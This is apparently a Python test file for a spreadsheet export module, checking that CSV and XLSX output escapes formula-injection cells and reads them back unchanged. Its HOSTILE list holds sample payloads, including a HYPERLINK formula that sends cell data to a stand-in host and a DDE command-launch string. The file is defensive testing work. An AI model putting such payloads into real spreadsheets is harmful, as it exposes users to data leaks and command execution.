"""No exported cell runs, and what is exported reads back as it was."""

import csv
import io
from itertools import chain

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from jejak.formats.spreadsheet import CellTooLong, Table, csv_bytes, neutralise, restore, xlsx_bytes

FORBIDDEN_STARTS = tuple("=+-@\t\r\0")
HOSTILE = [
    '=HYPERLINK("https://example.test/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+60123456789",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "  =1+1",
    "＝1+1",
    "\u200b=1+1",
    "'=already guarded",
    "''",
    "␦000A",
    "_x003D_1+1",
    "_x_x0041__",
    "#N/A",
    "TRUE",
    "00123",
    "",
    " spaces kept ",
    "Aminah binti Abdullah",
    'Comma, "quotes"; semicolon',
]
TEXTS = st.one_of(
    st.sampled_from(HOSTILE), st.text(max_size=40), st.text(alphabet="=+-@'␦_x0041\t\r\n\0 ", max_size=12)
)


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data: bytes) -> list[list[list[str]]]:
    book = load_workbook(io.BytesIO(data))
    return [[[cell.value or "" for cell in row] for row in sheet.iter_rows()] for sheet in book]


def a_table(rows: list[list[str]], mark: str = "") -> Table:
    return Table(title="Contacts", heading=["name", "phone"], rows=rows, mark=mark, mark_heading="taken out by")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_cell_does_not_run_and_reads_back(text: str) -> None:
    assert not neutralise(text).startswith(FORBIDDEN_STARTS)
    assert restore(neutralise(text)) == text


@given(TEXTS)
def test_any_text_reads_back_and_starts_with_nothing_that_runs(text: str) -> None:
    written = neutralise(text)
    assert not written.lstrip().startswith((*FORBIDDEN_STARTS, "＝", "＋", "－", "＠"))
    assert restore(written) == text


@given(TEXTS, TEXTS)
def test_two_texts_never_become_one(one: str, other: str) -> None:
    assert (neutralise(one) == neutralise(other)) == (one == other)


def test_a_lone_surrogate_is_kept_and_not_refused() -> None:
    assert restore(csv_bytes(a_table([["\ud800", "x"]])).decode("utf-8-sig").split('"')[5]) == "\ud800"


@pytest.mark.parametrize("text", ["Ali", "Siti Nurhaliza", "Tan Ah Kow @ Tan Beng", "Müller-Lüdenscheidt", "李小龙"])
def test_an_ordinary_name_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


@settings(max_examples=30)
@given(st.lists(st.tuples(TEXTS, TEXTS).map(list), max_size=5), TEXTS)
def test_csv_reads_back_with_the_mark_on_every_row(rows: list[list[str]], mark: str) -> None:
    heading, *read = read_csv(csv_bytes(a_table(rows, mark)))
    assert heading[:2] == ["name", "phone"]
    assert [[restore(cell) for cell in row] for row in read] == [row + ([mark] if mark else []) for row in rows]
    assert not any(cell.startswith(FORBIDDEN_STARTS) for cell in chain.from_iterable(read))


@settings(max_examples=30, deadline=None)
@given(st.lists(st.tuples(TEXTS, TEXTS).map(list), max_size=5), TEXTS.filter(bool))
def test_xlsx_reads_back_as_strings_under_the_mark(rows: list[list[str]], mark: str) -> None:
    [sheet] = read_xlsx(xlsx_bytes(a_table(rows, mark)))
    assert restore(sheet[0][0]) == mark
    assert sheet[1] == ["name", "phone"]
    assert [[restore(cell) for cell in row] for row in sheet[2:]] == rows


def test_every_xlsx_cell_is_a_string_and_none_a_formula() -> None:
    book = load_workbook(io.BytesIO(xlsx_bytes(a_table([[text, "1"] for text in HOSTILE if text]))))
    assert {cell.data_type for row in book.active.iter_rows() for cell in row} == {"s"}


def test_excel_recognises_the_csv_as_utf_8() -> None:
    assert csv_bytes(a_table([])).startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("count", [0, 1, 3, 4, 8, 9])
def test_rows_that_do_not_fit_go_on_in_further_sheets(count: int) -> None:
    rows = [[str(number), "x"] for number in range(count)]
    sheets = read_xlsx(xlsx_bytes(a_table(rows, "mark"), sheet_rows=6))
    assert all(sheet[0][0] == "mark" and sheet[1] == ["name", "phone"] and len(sheet) <= 6 for sheet in sheets)
    assert [row for sheet in sheets for row in sheet[2:]] == rows
    assert len(sheets) == max(1, -(-count // 4))


def test_a_text_longer_than_a_cell_is_refused_and_never_cut() -> None:
    longest = "x" * 32_767
    [sheet] = read_xlsx(xlsx_bytes(a_table([[longest, ""]])))
    assert sheet[1][0] == longest
    for text in (longest + "x", "=" + "x" * 32_766, "😀" * 16_384):
        with pytest.raises(CellTooLong):
            xlsx_bytes(a_table([[text, ""]]))


@pytest.mark.parametrize("title", ["a/b\\c*?[x]:", "'", "", "x" * 60])
def test_a_title_that_excel_refuses_is_made_fit(title: str) -> None:
    load_workbook(io.BytesIO(xlsx_bytes(Table(title=title, heading=["a"], rows=[["1"]] * 3), sheet_rows=2)))
